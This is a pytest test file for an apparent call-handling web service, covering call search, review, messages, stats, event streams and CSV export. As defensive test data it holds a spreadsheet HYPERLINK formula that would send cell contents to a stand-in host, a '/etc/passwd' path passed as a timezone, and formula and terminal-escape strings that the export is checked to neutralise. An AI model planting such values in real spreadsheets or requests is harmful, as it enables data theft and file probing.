"""What an operator's programs list, search, count, review and follow, and what hostile words cannot do to them."""

import asyncio
import csv
import io
import json

import pytest

from calls.events.people import MessageHandled, Reviewed
from calls.events.talk import CallerSaid, MessageTaken, Responded, TurnMeasured
from calls.states import CallState, EndedBy
from tests.calls_on_disk import store_on
from tests.web_service import running, until
from web.csv_lists import cell, lines

KEY = {"Authorization": "Bearer secret"}
FORMULA = '=HYPERLINK("https://x.test?"&A1)'


def a_call(store, name="CA1", *events, number="+12025550143"):
    call = store.open(
        carrier="twilio", carrier_call_id=name, from_number=number, to_number="+14155550100", agent="a"
    )
    call.move(CallState.IN_PROGRESS, cause="answered")
    for event in events:
        call.record(event)
    call.move(CallState.COMPLETED, cause=FORMULA, ended_by=EndedBy.CALLER)
    return call


class Asking:
    def __init__(self, service):
        self.http = service.http

    async def __call__(self, path, status=200, method="GET", **options):
        answer = await self.http.request(
            method, path, headers={**KEY, **options.pop("headers", {})}, **options
        )
        assert answer.status_code == status, answer.text
        return answer.json() if "json" in answer.headers["content-type"] else answer


@pytest.fixture(params=["memory", "file"])
async def service(request, tmp_path):
    if request.param == "memory":
        async with running(tmp_path, api_key="secret") as service:
            yield service
        return
    async with (
        store_on(tmp_path / "calls.db") as store,
        running(tmp_path, api_key="secret", store=store) as service,
    ):
        yield service


@pytest.fixture
def ask(service):
    return Asking(service)


async def test_calls_are_found_by_words_number_and_outcome_a_page_at_a_time(service, ask):
    for number in range(5):
        a_call(service.store, f"CA{number}", CallerSaid("A crown, please"), MessageTaken("Ann"))
    a_call(service.store, "CA9", CallerSaid("x"), number="+13105550199")
    await service.store.flush()
    found = await ask("/calls?q=CROWN&limit=3&outcome=message&outcome=lost&has=message&since=2020-01-01")
    further = await ask("/calls", params={"q": "CROWN", "limit": 3, "before": found["next"]})
    names = [one["carrier_call_id"] for one in found["calls"] + further["calls"]]
    assert (sorted(names), further["next"]) == ([f"CA{number}" for number in range(5)], None)
    assert found["calls"][0]["about"] == "A crown, please" and found["whole"]
    [by_number] = (await ask("/calls", params={"q": "(310) 555-0199"}))["calls"]
    assert by_number["carrier_call_id"] == "CA9"
    assert (
        (await ask("/calls?live=true"))["calls"]
        == (await ask("/calls?until=2020-01-01T00:00:00+01:00"))["calls"]
        == []
    )


@pytest.mark.parametrize(
    ("path", "cause"),
    [
        ("/calls?outcome=splendid", "query.outcome"),
        ("/calls?since=yesterday", "query.since"),
        ("/calls?since=0001-01-01T00:00:00%2B14:00", "is no time that calls could have"),
        ("/calls?before=x", "send the `next` of the answer before"),
        ("/calls?limit=0", "query.limit"),
        ("/calls?has=luck", "query.has"),
        ("/calls?slow_ms=-1", "query.slow_ms"),
        ("/calls?q=" + "x" * 201, "query.q"),
        ("/messages?before=1~2~3", "send the `next` of the answer before"),
        ("/stats?timezone=Mars/Base", "write it like Europe/Berlin"),
        ("/stats?timezone=/etc/passwd", "write it like Europe/Berlin"),
        ("/stats?bucket=hour&since=2020-01-01", "ask for fewer, or for days"),
        ("/stats?since=2026-01-02&until=2026-01-01", "since must be before until"),
        (
            "/stats?since=0001-01-01&until=0001-01-02&timezone=America/New_York",
            "is no time that calls could have",
        ),
    ],
)
async def test_what_cannot_be_asked_for_is_said_with_the_fix(service, ask, path, cause):
    assert cause in (await ask(path, 422))["error"]


async def test_a_call_is_reviewed_and_what_is_left_out_stays(service, ask):
    call = a_call(service.store, "CA1", CallerSaid("x"))
    shown = await ask(f"/calls/{call.id}", method="PATCH", json={"outcome": "lost", "note": "A prank."})
    assert (shown["outcome"], shown["outcome_found"], shown["note"], shown["reviewed_at"]) == (
        *("lost", "abandoned", "A prank."),
        None,
    )
    shown = await ask("/calls/CA1", method="PATCH", json={"reviewed": True})
    assert (shown["outcome"], shown["note"]) == ("lost", "A prank.") and shown["reviewed_at"]
    assert [one["carrier_call_id"] for one in (await ask("/calls?outcome=lost&reviewed=true"))["calls"]] == [
        "CA1"
    ]
    shown = await ask("/calls/CA1", method="PATCH", json={"outcome": None})
    assert (shown["outcome"], shown["note"]) == ("abandoned", "A prank.")
    assert [event["kind"] for event in shown["events"]][-3:] == ["reviewed"] * 3
    await ask("/calls/CA1", 422, method="PATCH", json={"outcome": "splendid"})
    await ask("/calls/CA1", 422, method="PATCH", json={"note": "x" * 2001})


async def test_messages_are_listed_and_dealt_with(service, ask):
    call = a_call(service.store, "CA1", MessageTaken("Ann", "+12025550143", "Call me."))
    await service.store.flush()
    [message] = (await ask("/messages?open=true"))["messages"]
    assert (message["call_id"], message["caller_name"], message["handled_at"]) == (call.id, "Ann", None)
    handled = await ask(f"/messages/CA1/{message['seq']}", method="PATCH", json={"handled": True})
    assert handled["handled_by"] == "API_KEY" and handled["handled_at"]
    assert (await ask("/messages?open=true")) == {"messages": [], "next": None}
    assert call.has(MessageHandled) or service.store.ask_database
    for path in (f"/messages/CA1/{message['seq'] + 1}", "/messages/CA1/1", "/messages/CA7/1"):
        assert "no such message" in (await ask(path, 404, method="PATCH", json={"handled": True}))["error"]
    assert (await ask("/messages", headers={"Accept": "text/csv"})).text.splitlines()[1].startswith("2")


async def test_calls_are_counted(service, ask):
    turn = TurnMeasured(
        n=0, to="caller", response_ms=700, parts=[{"stage": "model", "ms": 700}], after_answer_ms=90
    )
    a_call(service.store, "CA1", Responded(to="caller", ms=600, stages={}), turn, MessageTaken("Ann"))
    await service.store.flush()
    for bucket, most in (("hour", 25), ("day", 31)):
        counted = await ask(f"/stats?bucket={bucket}&timezone=Europe/Berlin")
        assert counted["totals"]["outcomes"] == {"message": 1}
        assert counted["totals"]["response_ms"] == {"p50": 700, "p95": 700, "n": 1}
        assert counted["totals"]["first_words_ms"]["p50"] == 90
        assert most - 1 <= len(counted["buckets"]) <= most + 1
        assert sum(one["calls"] for one in counted["buckets"]) == 1
        assert (counted["stages_ms"]["model"], counted["open_messages"]) == (700, 1)


async def test_a_spreadsheet_carries_out_nothing_that_a_caller_says(service, ask):
    a_call(service.store, "CA1", CallerSaid("@SUM(1)"), Reviewed(note="\t=1+1\x00\x1b[2J", by="x"))
    await service.store.flush()
    for path, options in (("/calls.csv", {}), ("/calls", {"headers": {"Accept": "text/csv"}})):
        answer = await ask(path, **options)
        assert answer.headers["content-type"].startswith("text/csv")
        assert (answer.headers["cache-control"], answer.headers["x-content-type-options"]) == (
            "no-store",
            "nosniff",
        )
        [row] = csv.DictReader(io.StringIO(answer.text))
        assert (row["about"], row["end_cause"]) == ("'@SUM(1)", f"'{FORMULA}")
        assert (row["from_number"], row["note"]) == ("'+12025550143", "'\t=1+1[2J")
        assert (row["carrier_call_id"], row["responses"], row["first_words_ms"]) == ("CA1", "0", "")


async def test_a_csv_has_all_pages(service, ask, monkeypatch):
    monkeypatch.setattr("web.lists.PAGE", 2)
    for number in range(5):
        a_call(service.store, f"CA{number}", MessageTaken(f"{number}"))
    await service.store.flush()
    rows = list(csv.DictReader(io.StringIO((await ask("/calls.csv")).text)))
    assert sorted(row["carrier_call_id"] for row in rows) == [f"CA{number}" for number in range(5)]
    answer = await ask("/messages", headers={"Accept": "text/csv"})
    assert len(answer.text.splitlines()) == 6


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1", "'=1"),
        ("  +1", "'  +1"),
        ("-1", "'-1"),
        ("＝1", "'＝1"),
        ("\n=1", "'\n=1"),
        ("\x00=1", "'=1"),
        ("\u202e=1", "'=1"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (-5, "-5"),
        (True, "True"),
        (["a", "b"], "a b"),
        (["=a"], "'=a"),
    ],
)
def test_no_cell_begins_a_formula(value, written):
    assert cell(value) == written


def test_a_cell_stays_in_its_cell():
    [row] = csv.reader(io.StringIO(lines(("a", "b"), [{"a": 'x","y\r\nz', "b": ";"}], heading=False)))
    assert row == ['x","y\nz', ";"]


async def test_all_calls_are_followed_by_who_may(service):
    async with service.http.stream("GET", "/events?agent=a", headers=KEY, timeout=20) as answer:
        seen = []

        async def read():
            kind = None
            async for line in answer.aiter_lines():
                if line.startswith("event:"):
                    kind = line[6:].strip()
                elif line.startswith("data:"):
                    seen.append((kind, json.loads(line[5:])))

        reading = asyncio.create_task(read())
        await asyncio.sleep(0.7)
        call = a_call(service.store, "CA1", CallerSaid("Hello"))
        service.store.open(carrier="twilio", carrier_call_id="CA2", agent="other")
        await until(lambda: any(kind == "ended" for kind, _ in seen))
        reading.cancel()
    assert {one["call_id"] for _, one in seen} == {call.id}
    assert [kind for kind, _ in seen] == [event.kind for event in call.events]
    said = next(one for kind, one in seen if kind == "caller_said")
    assert (said["text"], said["kind"], said["agent"], said["number"]) == ("Hello", "caller_said", "a", 5)


async def test_listeners_in_the_process_hear_of_each_event_once_and_cannot_harm_a_call(service):
    heard = []

    def bad(*_):
        raise ValueError("no")

    stop_bad = service.store.feed.listen(bad)
    stop = service.store.feed.listen(lambda call, event: heard.append((call.id, event)))
    call = a_call(service.store, "CA1", CallerSaid("x"))
    await service.store.flush()
    assert heard == [(call.id, event) for event in call.events]
    assert all(event.stored is None for _, event in heard)
    stop()
    stop_bad()
    call.record(CallerSaid("y"))
    assert len(heard) == len(call.events) - 1
